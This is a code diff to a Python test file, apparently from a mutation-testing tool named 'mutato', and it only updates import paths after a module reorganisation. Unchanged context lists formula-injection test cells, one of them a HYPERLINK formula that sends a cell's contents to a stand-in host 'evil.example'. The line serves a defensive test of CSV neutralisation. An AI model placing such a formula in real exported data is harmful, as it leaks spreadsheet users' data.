@@ -10,10 +10,10 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from mutato.csv_safety import neutralise, restore
 from mutato.errors import SuiteError
-from mutato.suite_loading import load_suite
-from mutato.terminal import shown
+from mutato.io_safety.csv_safety import neutralise, restore
+from mutato.io_safety.terminal import shown
+from mutato.suite.loading import load_suite
 
 #: Cells a spreadsheet would evaluate, as claims of a suite.
 FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"open")', "+1+1", "-2+3",
@@ -139,7 +139,7 @@ def test_the_review_screen_shows_markup_and_escapes_as_text(tmp_path):
 
     from textual.widgets import Static
 
-    from mutato.mutants import generate_mutants
+    from mutato.mutation.mutants import generate_mutants
     from mutato.review.app import ReviewApp
     from mutato.review.session import Session
 
